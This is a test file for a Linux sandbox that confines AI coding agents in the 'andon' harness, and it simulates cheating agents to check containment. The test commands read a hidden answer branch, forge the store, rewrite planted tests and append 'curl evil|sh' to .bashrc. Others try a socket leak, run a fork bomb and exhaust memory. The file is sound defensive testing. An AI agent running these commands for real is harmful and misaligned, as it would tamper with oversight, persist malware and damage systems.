@@ -1,0 +1,278 @@
+"""The agent sandbox (issue 11): each hole an agent process had, closed under ``auto`` on a
+Linux machine with bubblewrap; honest work still possible; a fork bomb ends the stage.
+
+The cheats run as real shell commands through ``run_process`` with the plan the attempt
+builds (``sandbox.plan_for``), against a real git checkout with a store, packets and a second
+worktree beside the agent's; each asserts the outside state is unchanged afterwards."""
+
+from __future__ import annotations
+
+import os
+import socket
+import subprocess
+import sys
+import threading
+from pathlib import Path
+
+import pytest
+
+from andon import sandbox
+from andon.agents.process import run_process
+from andon.config import Config
+from andon.sandbox import probe
+
+from helpers import git
+
+CAPS = probe.capabilities()
+needs_fs = pytest.mark.skipif(not CAPS.fs[0], reason=f"no fs sandbox here: {CAPS.fs[1]}")
+
+
+@pytest.fixture
+def site(tmp_path: Path, monkeypatch) -> dict[str, Path]:
+    """A checkout with a store, two packets and a secret branch; two worktrees under a
+    worktree root; a HOME with a .bashrc; a prompt folder."""
+    repo = tmp_path / "repo"
+    (repo / "packets/P2").mkdir(parents=True)
+    (repo / "packets/P2/packet.md").write_text("P2 as written\n")
+    (repo / "src").mkdir()
+    (repo / "src/app.py").write_text("x = 1\n")
+    git(repo, "init", "-q", "-b", "main")
+    git(repo, "add", "-A")
+    git(repo, "commit", "-q", "-m", "base")
+    git(repo, "checkout", "-q", "-b", "secret")
+    (repo / "answer.txt").write_text("the hidden answer\n")
+    git(repo, "add", "-A")
+    git(repo, "commit", "-q", "-m", "secret")
+    git(repo, "checkout", "-q", "main")
+    (repo / ".andon").mkdir()
+    (repo / ".andon/andon.db").write_bytes(b"store")
+    root = tmp_path / "wt-root"
+    wt, other = root / "P1-1", root / "P2-1"
+    for w in (wt, other):
+        git(tmp_path, "clone", "-q", "--no-local", "--single-branch", "-b", "main",
+            str(repo), str(w))
+    (wt / "tests").mkdir()
+    (wt / "tests/test_planted.py").write_text("def test_p():\n    assert True\n")
+    home = tmp_path / "home"
+    home.mkdir()
+    (home / ".bashrc").write_text("# mine\n")
+    prompt = tmp_path / "prompt"
+    prompt.mkdir()
+    (prompt / "implement.prompt.md").write_text("do it\n")
+    return {"repo": repo, "wt": wt, "other": other, "home": home, "prompt": prompt,
+            "tmp": tmp_path}
+
+
+def run(site, script: str, stage: str = "implement", level: str = "fs",
+        config: Config | None = None, timeout: float = 60):
+    """``script`` through /bin/sh as the stage's agent; (ProcessRun, transcript text)."""
+    wt = site["wt"]
+    locked = [wt / ".git", wt / "tests/test_planted.py"] if stage == "implement" else []
+    plan = sandbox.plan_for(level, config or Config(), site["repo"], wt,
+                            hidden=[wt.parent], readonly=[site["prompt"]], locked=locked)
+    out = site["tmp"] / f"out-{os.urandom(4).hex()}.log"
+    env = {"PATH": os.environ["PATH"], "HOME": str(site["home"]), "LANG": "C.UTF-8",
+           "GIT_AUTHOR_NAME": "a", "GIT_AUTHOR_EMAIL": "a@b", "GIT_COMMITTER_NAME": "a",
+           "GIT_COMMITTER_EMAIL": "a@b"}
+    p = run_process(["/bin/sh", "-c", script], wt, env, site["prompt"] / "implement.prompt.md",
+                    out, timeout, sandbox=plan)
+    return p, out.read_text(errors="replace")
+
+
+# -- the level -------------------------------------------------------------------------
+
+def test_auto_reaches_fs_or_better_here():
+    if not sys.platform.startswith("linux") or CAPS.bwrap is None:
+        pytest.skip("no bubblewrap here")
+    assert sandbox.level_for(Config()) in ("fs", "fs+net")
+    cut = Config.model_validate({"agent": {"network": "off"}})
+    assert sandbox.level_for(cut) == "fs+net"
+    assert sandbox.level_for(Config(), in_process=True) == "none"  # scripted: inside andon
+
+
+def test_asked_level_missing_is_refused_naming_what(monkeypatch):
+    from andon.errors import InvalidValue
+    monkeypatch.setenv(probe.BWRAP_ENV, "/nonexistent/bwrap")
+    probe.forget()
+    try:
+        fs = Config.model_validate({"agent": {"sandbox": "fs"}})
+        with pytest.raises(InvalidValue, match="bubblewrap is not installed"):
+            sandbox.level_for(fs)
+        assert sandbox.level_for(Config()) == "none"  # auto lowers itself, says so in doctor
+        assert sandbox.level_for(Config.model_validate({"agent": {"sandbox": "none"}})) == "none"
+    finally:
+        monkeypatch.delenv(probe.BWRAP_ENV)
+        probe.forget()
+    with pytest.raises(InvalidValue, match='needs \\[agent\\] network = "off"'):
+        sandbox.level_for(Config.model_validate({"agent": {"sandbox": "fs+net"}}))
+
+
+# -- cheats: each contained, the outside unchanged ---------------------------------------
+
+@needs_fs
+def test_checkout_and_its_branches_are_not_visible(site):
+    repo = site["repo"]
+    _p, out = run(site, f"cat {repo}/src/app.py; git -C {repo} show secret:answer.txt; "
+                       f"ls {repo}; echo done")
+    assert "the hidden answer" not in out and "x = 1" not in out
+    assert "done" in out
+
+
+@needs_fs
+def test_store_and_other_packets_cannot_be_written(site):
+    repo = site["repo"]
+    run(site, f"echo forged > {repo}/.andon/andon.db; echo weak > {repo}/packets/P2/packet.md;"
+              f" mkdir -p {repo}/.andon && echo x > {repo}/.andon/andon.db")
+    assert (repo / ".andon/andon.db").read_bytes() == b"store"
+    assert (repo / "packets/P2/packet.md").read_text() == "P2 as written\n"
+
+
+@needs_fs
+def test_other_worktree_var_tmp_and_bashrc_stay_untouched(site):
+    marker = Path("/var/tmp") / f"andon-sbx-{os.getpid()}-{os.urandom(3).hex()}"
+    _p, out = run(site, f"echo evil > {site['other']}/src/app.py; echo state > {marker}; "
+                       f"cat {marker}; echo 'curl evil|sh' >> $HOME/.bashrc; echo done")
+    assert "state" in out and "done" in out   # the agent's own private /var/tmp works...
+    assert not marker.exists()                # ...and is gone with the stage
+    assert (site["other"] / "src/app.py").read_text() == "x = 1\n"
+    assert (site["home"] / ".bashrc").read_text() == "# mine\n"
+
+
+@needs_fs
+def test_planted_tests_and_git_are_locked_during_implement(site):
+    wt = site["wt"]
+    _p, out = run(site, "echo 'def test_p(): pass' > tests/test_planted.py; "
+                       "rm -f tests/test_planted.py; git status --short >/dev/null && "
+                       "echo status-ok; git commit -qam x && echo committed; "
+                       "echo '# changed' >> src/app.py; echo done")
+    assert (wt / "tests/test_planted.py").read_text() == "def test_p():\n    assert True\n"
+    assert "committed" not in out and "status-ok" in out
+    assert (wt / "src/app.py").read_text() == "x = 1\n# changed\n"  # the work itself lands
+
+
+@needs_fs
+def test_reviewer_export_is_read_only(site):
+    exp = site["tmp"] / "export"
+    exp.mkdir()
+    (exp / "a.py").write_text("a\n")
+    review = site["tmp"] / "review"
+    review.mkdir()
+    plan = sandbox.plan_for("fs", Config(), site["repo"], exp, readonly=[site["prompt"]],
+                            writable=[review], locked=[exp])
+    out = site["tmp"] / "rev.log"
+    run_process(["/bin/sh", "-c", f"echo b > a.py; echo '{{}}' > {review}/r.json"], exp,
+                {"PATH": os.environ["PATH"], "HOME": str(site["home"])},
+                site["prompt"] / "implement.prompt.md", out, 60, sandbox=plan)
+    assert (exp / "a.py").read_text() == "a\n"
+    assert (review / "r.json").read_text() == "{}\n"
+
+
+@pytest.mark.skipif(not CAPS.net[0], reason=f"no fs+net here: {CAPS.net[1]}")
+def test_fs_net_reaches_no_socket_outside(site):
+    srv = socket.socket()
+    srv.bind(("127.0.0.1", 0))
+    srv.listen(1)
+    port = srv.getsockname()[1]
+    got: list[bytes] = []
+    srv.settimeout(2)
+
+    def accept():
+        try:
+            c, _ = srv.accept()
+            got.append(c.recv(100))
+        except OSError:
+            pass
+    t = threading.Thread(target=accept, daemon=True)
+    t.start()
+    code = (f"import socket\ntry:\n    s=socket.create_connection(('127.0.0.1',{port}),3)\n"
+            "    s.sendall(b'leak'); print('connected')\nexcept OSError as e: print('refused', e)")
+    _p, out = run(site, f"{sys.executable} -c \"{code}\"", level="fs+net")
+    srv.close()
+    t.join(3)
+    assert "refused" in out and got == []
+
+
+@needs_fs
+def test_fork_bomb_ends_the_stage_naming_the_limit(site):
+    cfg = Config.model_validate({"agent": {"max_processes": 64}})
+    p, _out = run(site, "b() { b | b & }; b; sleep 600", config=cfg, timeout=120)
+    assert p.limit_hit is not None and "max_processes" in p.limit_hit
+    assert p.duration_s < 60 and not p.timed_out
+
+
+# -- honest agents: still work ---------------------------------------------------------
+
+@needs_fs
+def test_honest_agent_git_tmp_subprocesses_and_python(site):
+    p, out = run(site, "git log --oneline | head -1; git diff --stat; "
+                       "t=$(mktemp) && echo scratch > $t && cat $t; "
+                       "(echo child-one) & (echo child-two) & wait; "
+                       f"{sys.executable} -c 'import andon, sys; print(\"py-ok\")'; "
+                       "cat $ANDON_PROMPT_FILE 2>/dev/null; cat "
+                       f"{site['prompt']}/implement.prompt.md; "
+                       "echo 'def f(): return 1' > src/new.py && echo wrote")
+    for word in ("base", "scratch", "child-one", "child-two", "py-ok", "do it", "wrote"):
+        assert word in out, out
+    assert p.exit_status == 0 and p.sandbox == "fs" and p.limit_hit is None
+    assert (site["wt"] / "src/new.py").exists()
+    # what the agent wrote is the harness's to read and commit
+    assert subprocess.run(["git", "-C", str(site["wt"]), "status", "--short"],
+                          capture_output=True, text=True).stdout.strip()
+
+
+@needs_fs
+def test_a_leak_ends_the_stage_naming_memory_mb(site):
+    if CAPS.cgroup_memory is None:
+        pytest.skip("no writable memory cgroup here: memory_mb falls back to RLIMIT_AS")
+    cfg = Config.model_validate({"agent": {"memory_mb": 64}})
+    p, _out = run(site, f"{sys.executable} -c 'x = bytearray(400 * 2**20); import time; "
+                        "time.sleep(300)'; sleep 300", config=cfg, timeout=120)
+    assert p.limit_hit is not None and "memory_mb" in p.limit_hit
+    assert p.duration_s < 60
+
+
+def test_without_a_cgroup_the_process_cap_is_an_rlimit_above_the_users_tasks(monkeypatch):
+    from dataclasses import replace
+
+    from andon.sandbox import limits
+    monkeypatch.setattr(limits, "capabilities",
+                        lambda: replace(CAPS, cgroup_pids=None, cgroup_memory=None))
+    caps = limits.Caps(memory_mb=100, max_processes=50)
+    args = caps.launcher_args()
+    assert caps.groups == []
+    nproc = int(args[args.index("--nproc") + 1])
+    assert nproc >= 50 + 1  # this test's own process counts among the user's tasks
+    assert args[args.index("--as") + 1] == str(100 * 2**20)
+    caps.close()
+
+
+def test_doctor_says_which_levels_work_and_why_not(monkeypatch):
+    from andon.doctor import sandbox_lines
+    text = "\n".join(sandbox_lines())
+    assert "fs+net" in text and "auto    reaches" in text
+    monkeypatch.setenv(probe.BWRAP_ENV, "/nonexistent/bwrap")
+    probe.forget()
+    try:
+        text = "\n".join(sandbox_lines())
+    finally:
+        monkeypatch.delenv(probe.BWRAP_ENV)
+        probe.forget()
+    assert "fs      not available: bubblewrap is not installed" in text
+    assert 'auto    reaches "none"' in text
+
+
+def test_the_rlimit_launcher_sets_the_limits_before_the_agent_starts(tmp_path, monkeypatch):
+    from dataclasses import replace
+
+    from andon.sandbox import limits
+    monkeypatch.setattr(limits, "capabilities",
+                        lambda: replace(CAPS, cgroup_pids=None, cgroup_memory=None))
+    plan = sandbox.plan_for("none", Config.model_validate(
+        {"agent": {"memory_mb": 512, "max_processes": 40}}), tmp_path, tmp_path)
+    (tmp_path / "in").write_text("")
+    p = run_process(["/bin/sh", "-c", "ulimit -v; ulimit -p 2>/dev/null || ulimit -u"],
+                    tmp_path, {"PATH": "/usr/bin:/bin"}, tmp_path / "in", tmp_path / "out",
+                    60, sandbox=plan)
+    kb, nproc = (tmp_path / "out").read_text().split()
+    assert p.exit_status == 0 and int(kb) == 512 * 1024
+    assert int(nproc) >= 40 + 1
